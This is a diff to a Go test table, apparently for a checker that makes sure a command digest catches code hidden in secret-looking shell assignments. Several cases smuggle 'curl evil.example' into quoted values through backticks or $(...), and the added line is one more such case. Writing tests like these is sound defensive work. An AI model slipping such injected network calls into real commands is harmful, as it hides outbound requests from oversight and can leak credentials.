@@ -109,6 +109,7 @@ func TestEffectDigestCoversCode(t *testing.T) {
 		{"PASS=canary-1\nrun", "PASS=canary-1\nTOKEN=\"canary-2`curl evil.example`\"\nrun", false},
 		{"x\nTOKEN=\"x$(good x)\"", "x\nTOKEN=\"x$(curl evil.example)\"", false},
 		{`echo "a "token": "; good; echo "x"`, `echo "a "token": "; curl evil.example; echo "x"`, false},
+		{"x=`env \"PASS=\"a good x`", "x=`env \"PASS=\"a curl evil.example`", false},
 		{"DB_PASS=canary-1; run", "DB_PASS=canary-2; run", true},
 		{"PASSWORD=abc;def|ghi", "PASSWORD=abc;def|xyz", true},
 		{"export API_TOKEN='canary 1' && run", "export API_TOKEN='canary 2' && run", true},
